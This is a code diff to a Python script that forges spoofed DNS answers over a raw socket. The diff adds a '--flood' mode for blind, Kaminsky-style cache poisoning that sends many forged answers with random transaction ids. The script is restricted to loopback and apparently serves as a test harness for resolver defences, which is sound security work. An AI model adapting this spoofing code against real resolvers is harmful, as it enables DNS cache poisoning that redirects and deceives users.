@@ -17,6 +17,12 @@
    no ICMP port-unreachable follows;
 5. prints the DNS id on stdout.
 
+With --flood N it plays blind spoofing instead (Kaminsky-style poisoning):
+the forger does not see the query, so step 3 sends N forged answers with
+random transaction ids (none the query's) while the client waits, then
+step 4 drains them and receives the real answer. It prints the query's id
+on the first line and the forged ids, in the order sent, on the second.
+
 Needs root (raw socket, signals to the server). Loopback only: the script
 refuses addresses outside 127.0.0.0/8. Stdlib only.
 """
@@ -82,6 +88,7 @@ def main():
     ap.add_argument("--forged-a", required=True)
     ap.add_argument("--ttl", type=int, default=3600)
     ap.add_argument("--pids", required=True, help="comma-separated pids of the real server's processes")
+    ap.add_argument("--flood", type=int, default=0, help="blind spoofing: this many forged answers, random ids")
     args = ap.parse_args()
     for a in (args.client, args.server):
         if not a.startswith("127."):
@@ -91,8 +98,12 @@ def main():
     qid = random.randrange(1, 65536)
     question = encode_name(args.qname) + struct.pack("!HH", 1, 1)
     query = struct.pack("!HHHHHH", qid, 0x0000, 1, 0, 0, 0) + question  # RD=0, like a resolver
-    forged = (struct.pack("!HHHHHH", qid, 0x8400, 1, 1, 0, 0) + question +  # QR AA, NOERROR
-              struct.pack("!HHHIH", 0xC00C, 1, 1, args.ttl, 4) + socket.inet_aton(args.forged_a))
+
+    def forged_answer(txid):
+        return (struct.pack("!HHHHHH", txid, 0x8400, 1, 1, 0, 0) + question +  # QR AA, NOERROR
+                struct.pack("!HHHIH", 0xC00C, 1, 1, args.ttl, 4) + socket.inet_aton(args.forged_a))
+    forged = forged_answer(qid)
+    flood_ids = random.sample([i for i in range(1, 65536) if i != qid], args.flood)
 
     client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     client.bind((args.client, 0))
@@ -110,17 +121,29 @@ def main():
             wait_state(pid, "T")
         client.sendto(query, (args.server, 53))
         time.sleep(0.003)  # the time an on-path box needs to see the query and answer it
-        raw.sendto(udp_ipv4(args.server, 53, args.client, cport, forged), (args.client, 0))
-        first, src = client.recvfrom(4096)
-        if src != (args.server, 53) or first != forged:
-            sys.exit("inject: the first answer is not the forged one (from %s: %s, forged %s)" % (src, first.hex(), forged.hex()))
+        if args.flood:
+            for txid in flood_ids:
+                raw.sendto(udp_ipv4(args.server, 53, args.client, cport, forged_answer(txid)), (args.client, 0))
+                time.sleep(0.002)  # 500 per second: within any burst window, and slow enough for tcpdump on lo
+            for txid in flood_ids:
+                got, src = client.recvfrom(4096)
+                if src != (args.server, 53) or got != forged_answer(txid):
+                    sys.exit("inject: forged answer %d did not arrive in order (from %s: %s)" % (txid, src, got.hex()))
+            first = None
+        else:
+            raw.sendto(udp_ipv4(args.server, 53, args.client, cport, forged), (args.client, 0))
+            first, src = client.recvfrom(4096)
+            if src != (args.server, 53) or first != forged:
+                sys.exit("inject: the first answer is not the forged one (from %s: %s, forged %s)" % (src, first.hex(), forged.hex()))
     finally:
         for pid in stopped:
             os.kill(pid, signal.SIGCONT)
     second, src = client.recvfrom(4096)
-    if src != (args.server, 53) or second[:2] != first[:2] or second == forged:
+    if src != (args.server, 53) or second[:2] != struct.pack("!H", qid) or second == forged:
         sys.exit("inject: no real answer with id %d from %s:53" % (qid, args.server))
     print(qid)
+    if args.flood:
+        print(" ".join(str(i) for i in flood_ids))
 
 
 if __name__ == "__main__":
